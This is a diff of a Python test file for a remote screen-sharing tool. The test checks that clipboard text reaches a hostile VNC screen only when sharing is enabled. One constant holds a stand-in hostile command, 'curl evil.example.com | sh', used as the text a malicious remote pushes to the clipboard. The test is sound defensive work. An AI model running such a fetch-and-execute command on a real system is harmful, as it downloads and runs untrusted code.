@@ -11,11 +11,11 @@ from contextlib import suppress
 
 import pytest
 
-from sra.admin.screen.door import open_door
-from sra.admin.screen.viewer import Credential, running, tigervnc
+from sra.admin.screen.viewer import ViewerCredential, running, tigervnc
+from sra.admin.screen.viewer_socket import open_door
 from sra.remote.screen_sharing.wayland import plain_login
 from sra.transport.stream import Stream
-from tests.loopback import run, until
+from tests.loopback import until
 
 SECRET, MADE_UP = b"correct horse battery staple", b"curl evil.example.com | sh"
 TITLE = "a hostile screen"
@@ -34,7 +34,7 @@ class HostileScreen:
         self.cut_texts: list[bytes] = []
 
     async def begin(self) -> None:
-        async def anything(_: plain_login.Claim) -> bool:
+        async def anything(_: plain_login.LoginClaim) -> bool:
             return True
 
         await plain_login.admit(self.stream, anything)
@@ -97,28 +97,25 @@ async def typed(screen: HostileScreen) -> None:
 
 @pytest.mark.usefixtures("display")
 @pytest.mark.parametrize("clipboard", [False, True], ids=["by default", "where the person wants it"])
-def test_what_is_copied_here_is_sent_to_no_remote_unless_the_person_wants_it(clipboard: bool) -> None:
-    async def body() -> None:
-        with open_door(by_path=True) as door:
-            viewer = tigervnc(view_only=False, clipboard=True) if clipboard else tigervnc(view_only=False)
-            async with running(viewer, door, Credential("screen", "password")):
-                screen = HostileScreen(await door.accept())
-                await screen.begin()
-                listening = asyncio.create_task(screen.listen())
+async def test_what_is_copied_here_is_sent_to_no_remote_unless_the_person_wants_it(clipboard: bool) -> None:
+    with open_door(by_path=True) as door:
+        viewer = tigervnc(view_only=False, clipboard=True) if clipboard else tigervnc(view_only=False)
+        async with running(viewer, door, ViewerCredential("screen", "password")):
+            screen = HostileScreen(await door.accept())
+            await screen.begin()
+            listening = asyncio.create_task(screen.listen())
+            await typed(screen)
+            for selection in ("clipboard", "primary"):
+                await asyncio.to_thread(copy, selection)
                 await typed(screen)
-                for selection in ("clipboard", "primary"):
-                    await asyncio.to_thread(copy, selection)
-                    await typed(screen)
-                if clipboard:
-                    await until(lambda: SECRET in b"".join(screen.cut_texts))
-                screen.paste()
-                await typed(screen)
-                await asyncio.sleep(0.3)
-                assert (SECRET in b"".join(screen.cut_texts)) is clipboard
-                assert await copied() == (MADE_UP if clipboard else SECRET)
-                listening.cancel()
-                with suppress(asyncio.CancelledError):
-                    await listening
-                screen.stream.close()
-
-    run(body())
+            if clipboard:
+                await until(lambda: SECRET in b"".join(screen.cut_texts))
+            screen.paste()
+            await typed(screen)
+            await asyncio.sleep(0.3)
+            assert (SECRET in b"".join(screen.cut_texts)) is clipboard
+            assert await copied() == (MADE_UP if clipboard else SECRET)
+            listening.cancel()
+            with suppress(asyncio.CancelledError):
+                await listening
+            screen.stream.close()
